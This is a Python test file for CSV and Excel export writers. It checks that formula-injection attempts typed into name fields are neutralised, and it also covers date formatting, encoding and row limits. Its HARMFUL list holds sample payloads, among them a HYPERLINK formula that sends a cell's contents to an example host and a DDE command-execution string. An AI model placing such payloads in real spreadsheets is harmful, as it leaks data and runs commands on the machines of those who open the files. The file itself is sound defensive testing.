"""What somebody typed as a name must not run when a manager opens the file."""

import csv
import io
from datetime import UTC, date, datetime, time

import pytest
from openpyxl import load_workbook

from exports import sheets
from exports.sheets import TooLong, write_csv, write_excel

COLUMNS = ("Name", "Age", "Due on", "Sent", "At")
fri_27_nov = date(2026, 11, 27)
# Summer time: nine in London is eight in UTC.
nine_in_london = datetime(2026, 7, 1, 8, 0, tzinfo=UTC)

nine_on_the_wall = datetime.fromisoformat("2026-07-01T09:00")

HARMFUL = [
    '=HYPERLINK("http://example.test/?"&A1,"Click")',
    "+44 7700 900123",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "=1+1\",=cmd|' /C calc'!A0",
]
HARMLESS = [
    "Robin Fixture",
    "O’Neill-Smith",
    "a=b",
    "1-2",
    "#N/A",
    "",
    "Two\nlines, and “quotes”",
    "Zoë Łukasz",
]


def as_csv(rows) -> list[list[str]]:
    file = io.BytesIO()
    write_csv(file, COLUMNS, rows)
    return list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))


def as_sheet(rows):
    file = io.BytesIO()
    write_excel(file, COLUMNS, rows)
    file.seek(0)
    return load_workbook(file).active


@pytest.mark.parametrize("name", HARMFUL)
def test_a_name_like_a_formula_is_words_in_csv(name):
    [_, [cell, *_]] = as_csv([(name,)])
    assert cell == f"'{name}"


@pytest.mark.parametrize("name", HARMFUL)
def test_a_name_like_a_formula_is_words_in_excel_letter_for_letter(name):
    cell = as_sheet([(name,)])["A2"]
    assert cell.data_type == "s"
    assert cell.value == name
    assert cell.quotePrefix


@pytest.mark.parametrize("name", HARMLESS)
def test_any_other_name_is_what_was_typed(name):
    [_, [in_csv, *_]] = as_csv([(name,)])
    in_excel = as_sheet([(name,)])["A2"]
    assert in_csv == (in_excel.value or "") == name
    assert in_excel.data_type == ("s" if name else "n")  # nothing is read back as no number
    assert not in_excel.quotePrefix


def test_no_cell_of_a_file_is_a_formula_or_an_error():
    sheet = as_sheet([(name, name) for name in [*HARMFUL, *HARMLESS]])
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}


def test_days_and_moments_are_excels_own():
    sheet = as_sheet([("Robin", 11, fri_27_nov, nine_in_london, time(14, 30))])
    _, age, due_on, sent, at = sheet[2]
    assert (age.value, age.data_type) == (11, "n")
    assert (due_on.value.date(), due_on.is_date, due_on.number_format) == (fri_27_nov, True, "dd/mm/yyyy")
    assert (sent.value, sent.number_format) == (nine_on_the_wall, "dd/mm/yyyy hh:mm")
    assert (at.value, at.number_format) == (time(14, 30), "hh:mm")


def test_days_and_moments_in_csv_are_written_the_one_way_that_every_program_reads():
    [_, row] = as_csv([("Robin", -1, fri_27_nov, nine_in_london, time(14, 30))])
    assert row == ["Robin", "-1", "2026-11-27", "2026-07-01 09:00", "14:30"]


def test_what_is_not_known_is_an_empty_cell():
    assert as_csv([(None, None, None)])[1] == ["", "", ""]
    assert [cell.value for cell in as_sheet([(None, None, None)])[2]][:3] == [None] * 3


def test_csv_carries_the_mark_by_which_excel_reads_zoe_right():
    file = io.BytesIO()
    write_csv(file, COLUMNS, [("Zoë",)])
    assert file.getvalue().startswith(b"\xef\xbb\xbf")


def test_letters_that_a_sheet_cannot_hold_are_left_out_and_the_rest_kept():
    assert as_sheet([("Ro\x0bbin",)])["A2"].value == "Robin"


@pytest.mark.parametrize("write", [write_csv, write_excel])
def test_the_writer_counts_the_rows_and_not_the_headings(write):
    assert write(io.BytesIO(), COLUMNS, iter([("a",), ("b",), ("c",)])) == 3
    assert write(io.BytesIO(), COLUMNS, iter([])) == 0


@pytest.mark.parametrize("write", [write_csv, write_excel])
def test_rows_are_taken_one_by_one_and_none_is_kept(write):
    class Row(tuple):
        alive = most = 0

        def __new__(cls, *cells):
            cls.alive += 1
            cls.most = max(cls.most, cls.alive)
            return super().__new__(cls, cells)

        def __del__(self):
            type(self).alive -= 1

    write(io.BytesIO(), COLUMNS, (Row("name", number) for number in range(2000)))
    assert Row.most <= 3


def test_a_list_longer_than_a_sheet_is_refused_and_not_cut_off(monkeypatch):
    monkeypatch.setattr(sheets, "EXCEL_HOLDS", 2)
    assert write_excel(io.BytesIO(), COLUMNS, [("a",), ("b",)]) == 2
    with pytest.raises(TooLong):
        write_excel(io.BytesIO(), COLUMNS, [("a",), ("b",), ("c",)])
